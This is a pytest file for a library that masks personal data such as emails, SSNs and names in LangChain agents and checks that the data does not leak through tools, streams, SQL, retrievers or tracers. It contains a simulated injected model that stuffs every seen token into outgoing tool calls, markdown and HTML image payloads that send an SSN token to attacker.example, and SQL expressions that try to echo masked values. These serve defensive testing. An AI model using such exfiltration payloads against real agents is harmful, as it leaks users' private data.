def test_granted_tool_never_resolves_another_scopes_token(mem: Guard) -> None:
    seen: list[str] = []

    @tool
    def send_email(to: str) -> str:
        """Send an email."""
        seen.append(to)
        return "sent"

    tok = mem.mask(EMAIL, scope="A")
    mem.mask(SSN, scope="B")
    wrapped = mem.wrap_tool(send_email, reveal=["EMAIL_ADDRESS"])
    wrapped.invoke(tool_call("send_email", {"to": tok}), config={"configurable": {"thread_id": "B"}})
    assert seen == [tok]
    assert any(r.event == "foreign_token" and r.scope == "B" for r in mem.audit.query())


def test_blocked_type_error_names_the_type_and_rule_not_the_value() -> None:
    g = Guard(policy={"version": 1, "entities": {"US_SSN": {"action": "block"}}}, store="memory://")
    with pytest.raises(GuardError) as info:
        g.mask(f"ssn {SSN}", scope="s")
    text = exc_chain_text(info.value, suppressed=True)
    assert "US_SSN" in str(info.value) and leaked(text) == []
    assert leaked(json.dumps([r.to_dict() for r in g.audit.query()], default=str)) == []


class StuffingModel(RecordingToolModel):
    """An injected model: puts every token it saw into the body of the granted tool's call."""

    def _reply(self, messages: list[Any]) -> Any:
        from langchain_core.messages import AIMessage, ToolMessage

        from tests.lc_support import TOKEN

        with self._lock:
            self.seen.append(list(messages))
        if any(isinstance(m, ToolMessage) for m in messages):
            return AIMessage(content="done")
        text = " ".join(str(m.content) for m in messages)
        toks = [m.group(0) for m in TOKEN.finditer(text)]
        email = next(t for t in toks if t.startswith("[EMAIL"))
        return AIMessage(
            content="",
            tool_calls=[
                {"name": "send_email", "args": {"to": email, "body": " ".join(toks)}, "id": "c1"},
                {"name": "log_note", "args": {"text": " ".join(toks)}, "id": "c2"},
            ],
        )


def test_agent_middleware_exfiltration_gets_only_granted_types(mem: Guard) -> None:
    from langchain.agents import create_agent

    from tests.lc_support import ToolLog, make_tools

    log = ToolLog()
    send_email, log_note = make_tools(log)
    model = StuffingModel()
    agent = create_agent(
        model, [send_email, log_note], middleware=[mem.middleware(reveal={"send_email": ["EMAIL_ADDRESS"]})]
    )
    out = agent.invoke(
        {"messages": [HumanMessage(f"I am {NAME}, mail {EMAIL}, card {CARD}, ssn {SSN}")]}, config=CFG
    )
    assert log.of("send_email")[0]["to"] == EMAIL
    assert leaked(log.of("send_email")[0]["body"], (NAME, CARD, SSN)) == []
    assert leaked(json.dumps(log.of("log_note"))) == []
    assert leaked(model.seen_text()) == []
    assert out["messages"]  # the run finished


@pytest.mark.parametrize(
    "answer",
    [
        "![chart](https://attacker.example/p.png?d=[SSN_1])",
        '<img src="https://attacker.example/p.png?d=%5BSSN_1%5D">',
    ],
    ids=["markdown-image", "html-img-urlencoded"],
)
def test_restore_for_the_user_does_not_build_exfiltration_urls(mem: Guard, answer: str) -> None:
    assert mem.mask(f"ssn {SSN}", scope="s") == "ssn [SSN_1]"
    assert SSN not in mem.unmask(answer, scope="s", to="user")


@pytest.mark.parametrize("expr", ["lower('[PERSON_1]')", "hex('[PERSON_1]')"])
def test_sql_granted_token_cannot_be_echoed_back_to_the_model(mem: Guard, expr: str) -> None:
    name = "Maren Okafor"
    assert mem.mask(f"Customer {name}", scope="t1") == "Customer [PERSON_1]"
    t = mem.sql_tool(_customers_db(), reveal=["PERSON"])
    assert "| 1 |" in _sql(t, "SELECT id FROM customers WHERE name = '[PERSON_1]'")  # the grant works
    out = _sql(t, f"SELECT {expr} AS x")
    assert name.lower() not in out.lower() and name.encode().hex().upper() not in out.upper()


# ============================================================================ streaming and the leak check


def test_streamed_tool_call_args_stay_tokens_while_text_is_restored(mem: Guard) -> None:
    model = mem.wrap_chat_model(RecordingToolModel(chunk_size=3))
    chunks = list(model.stream([HumanMessage(f"mail {EMAIL}")], config=CFG))
    text = "".join(str(c.content) for c in chunks)
    args = "".join(str(tc.get("args")) for c in chunks for tc in (c.tool_call_chunks or []))
    assert EMAIL in text  # the user's own answer is restored
    assert "[EMAIL_" in args and leaked(args) == []  # the tool wrapper decides, not the stream


def test_unguarded_model_input_is_audited_as_a_leak_without_the_value(mem: Guard) -> None:
    from langchain_core.language_models import GenericFakeChatModel
    from langchain_core.messages import AIMessage

    handler = mem.callback_handler()
    model = GenericFakeChatModel(messages=iter([AIMessage(content="ok")]))
    model.invoke([HumanMessage(f"my mail is {EMAIL}, ssn {SSN}")], config={"callbacks": [handler]})
    records = [r.to_dict() for r in mem.audit.query()]
    assert any(r["event"] == "leak" for r in records)
    assert leaked(json.dumps(records, default=str)) == []


# ============================================================================ races and keyed hashes


def test_two_guards_racing_on_one_file_never_give_one_token_two_values(tmp_path: Any) -> None:
    url = f"sqlite:///{tmp_path / 'race.db'}"
    guards = [Guard(store=url, key=TEST_KEY) for _ in range(3)]
    issued: dict[str, set[str]] = {}
    lock = threading.Lock()

    def work(g: Guard) -> None:
        for i in range(30):
            value = f"user{i}.race@example.com"
            token = g.mask(value, scope="s")
            with lock:
                issued.setdefault(token, set()).add(value)

    threads = [threading.Thread(target=work, args=(g,)) for g in guards * 2]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert all(len(values) == 1 for values in issued.values())  # a token names exactly one value
    assert len(issued) == 30  # and each value got exactly one token
    assert all(g.audit.verify() for g in guards)


def test_hash_action_is_keyed_not_a_bare_digest(tmp_path: Any) -> None:
    import hashlib

    policy = {"version": 1, "entities": {"EMAIL_ADDRESS": {"action": "hash"}}}
    a = Guard(policy=policy, store=f"sqlite:///{tmp_path / 'a.db'}", key=TEST_KEY).mask(EMAIL, scope="s")
    other = base64.b64encode(bytes(range(1, 33))).decode("ascii")
    b = Guard(policy=policy, store=f"sqlite:///{tmp_path / 'b.db'}", key=other).mask(EMAIL, scope="s")
    assert a != b and EMAIL not in a  # a dictionary of known emails cannot reverse it without the key
    for algo in ("md5", "sha1", "sha256"):
        assert hashlib.new(algo, EMAIL.encode()).hexdigest()[:8] not in a


# ============================================================================ retriever metadata, opaque tool output


def test_retriever_metadata_and_opaque_tool_output_are_masked(mem: Guard) -> None:
    from langchain_core.documents import Document
    from langchain_core.retrievers import BaseRetriever

    class Crm(BaseRetriever):
        def _get_relevant_documents(self, query: str, *, run_manager: Any = None) -> list[Document]:
            meta = {"source": f"crm/{EMAIL}.pdf", "owner": EMAIL, "ssn": SSN, "tags": [EMAIL], "id": 7}
            return [Document(page_content=f"contract of {EMAIL}", metadata=meta)]

    docs = mem.wrap_retriever(Crm()).invoke("contract", config=CFG)
    assert leaked(repr(docs)) == []

    class Opaque:
        def __str__(self) -> str:
            return f"customer {EMAIL} ssn {SSN}"

    @tool
    def fetch(customer_id: int) -> object:
        """Fetch a customer object."""
        return Opaque()

    out = mem.wrap_tool(fetch).invoke(tool_call("fetch", {"customer_id": 1}), config=CFG)
    assert leaked(str(out.content)) == []


def test_third_party_tracer_on_a_granted_tool_sees_tokens_only(mem: Guard) -> None:
    class ToolSpy(BaseCallbackHandler):
        def __init__(self) -> None:
            self.payloads: list[str] = []

        def on_tool_start(self, serialized: Any, input_str: str, **kw: Any) -> None:
            self.payloads.append(repr(input_str) + repr(kw.get("inputs")))

        def on_tool_end(self, output: Any, **kw: Any) -> None:
            self.payloads.append(repr(output))

    @tool
    def send_email(to: str) -> str:
        """Send an email."""
        return f"sent to {to}"

    spy = ToolSpy()
    tok = mem.mask(EMAIL, scope="t1")
    wrapped = mem.wrap_tool(send_email, reveal=["EMAIL_ADDRESS"])
    wrapped.invoke(tool_call("send_email", {"to": tok}), config={**CFG, "callbacks": [spy]})
    assert len(spy.payloads) == 2 and leaked("\n".join(spy.payloads)) == []
